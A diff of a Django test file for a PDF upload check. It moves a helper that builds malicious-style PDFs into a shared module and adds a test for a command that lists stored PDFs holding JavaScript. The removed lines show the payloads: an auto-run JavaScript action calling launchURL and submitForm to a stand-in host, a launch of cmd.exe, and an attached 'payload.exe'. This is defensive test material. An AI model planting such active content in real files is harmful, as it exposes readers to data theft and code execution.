@@ -5,45 +5,13 @@ import io
 import pytest
 from django.core.exceptions import ValidationError
 from django.core.files.base import ContentFile
-from pypdf import PdfReader, PdfWriter
-from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject
+from django.core.management import call_command
 
+from vigil.images.tests.payloads import pdf_with
 from vigil.library import services
+from vigil.library.models import LibraryDocument
 
-from .factories import pdf_bytes
-
-
-def pdf_with(*, open_action: str | None = None, names_js=False, attachment=False, link=False):
-    """A real PDF with the active content an attacker would put in it."""
-    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf_bytes())))
-    if open_action:
-        action = DictionaryObject(
-            {NameObject("/Type"): NameObject("/Action"), NameObject("/S"): NameObject(open_action)}
-        )
-        if open_action == "/JavaScript":
-            action[NameObject("/JS")] = TextStringObject("app.launchURL('https://x.example/')")
-        else:
-            action[NameObject("/F")] = TextStringObject("cmd.exe")
-        writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
-    if names_js:
-        script = DictionaryObject(
-            {
-                NameObject("/S"): NameObject("/JavaScript"),
-                NameObject("/JS"): TextStringObject("this.submitForm('https://x.example/')"),
-            }
-        )
-        tree = ArrayObject([TextStringObject("a"), writer._add_object(script)])
-        names = DictionaryObject(
-            {NameObject("/JavaScript"): DictionaryObject({NameObject("/Names"): tree})}
-        )
-        writer._root_object[NameObject("/Names")] = writer._add_object(names)
-    if attachment:
-        writer.add_attachment("payload.exe", b"MZ")
-    if link:
-        writer.add_uri(0, "https://example.org/", [0, 0, 10, 10])
-    buffer = io.BytesIO()
-    writer.write(buffer)
-    return buffer.getvalue()
+from .factories import LibraryDocumentFactory
 
 
 def inspect(content: bytes):
@@ -70,3 +38,18 @@ def test_a_pdf_with_active_content_is_refused_saying_what_it_holds(options, name
 def test_a_plain_pdf_with_links_is_taken():
     facts = inspect(pdf_with(link=True))
     assert facts.media_type == services.PDF and facts.page_count == 1
+
+
+@pytest.mark.django_db
+def test_stored_pdfs_with_active_content_are_listed_for_the_editor_to_replace():
+    plain = LibraryDocumentFactory(title="Plain")
+    # Uploaded before the check: written past it, as an old version stored it.
+    active = LibraryDocumentFactory(title="Active")
+    with open(active.file.path, "wb") as handle:
+        handle.write(pdf_with(open_action="/JavaScript"))
+    output = io.StringIO()
+    with pytest.raises(SystemExit):
+        call_command("library_active_pdfs", stdout=output)
+    assert f"{active.pk} {active.file.name}: JavaScript" in output.getvalue()
+    assert f"{plain.pk} " not in output.getvalue()
+    assert LibraryDocument.objects.count() == 2
